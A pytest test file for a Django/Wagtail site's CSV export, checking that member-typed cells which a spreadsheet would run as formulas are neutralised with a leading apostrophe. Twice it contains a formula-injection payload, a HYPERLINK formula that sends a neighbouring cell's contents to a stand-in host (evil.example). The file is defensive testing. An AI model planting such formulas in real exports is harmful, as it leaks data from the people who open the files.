"""hub.csv_export: no cell typed by a member runs as a formula in a spreadsheet."""

import csv
import datetime
import io

import pytest
from django.utils.translation import gettext_lazy

from hub.csv_export import BOM, csv_bytes, csv_response, neutralise


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&B2,"Voir")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # full-width equals sign
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Québec", " =1", "a=1", "", 42, -3, 1.5, None, True])
def test_other_values_are_written_as_they_are(value):
    assert neutralise(value) == value


def test_lazy_translations_become_text():
    assert neutralise(gettext_lazy("Yes")) in {"Yes", "Oui"}


def test_files_start_with_a_byte_order_mark_and_keep_accents():
    data = csv_bytes(["nom", "date"], [["=François", datetime.date(2026, 11, 3)]])
    assert data.startswith(BOM.encode())
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [
        ["nom", "date"],
        ["'=François", "2026-11-03"],
    ]
    response = csv_response("x.csv", ["a"], [["@x"]])
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.content.decode("utf-8") == BOM + "a\r\n'@x\r\n"


@pytest.mark.django_db
def test_wagtails_site_history_export_writes_a_member_typed_name_as_text(client):
    # A member proposes their organisation's name; staff approve it in the Wagtail admin,
    # which logs the name as the entry's label, exported by Reports → Site history.
    from wagtail.log_actions import log

    from hub.accounts.tests.factories import OrganisationFactory, UserFactory

    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Voir")'
    staff = UserFactory(is_staff=True, is_superuser=True)
    log(instance=OrganisationFactory(name=formula), action="wagtail.edit", user=staff)
    client.force_login(staff)
    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + formula in cells and formula not in cells
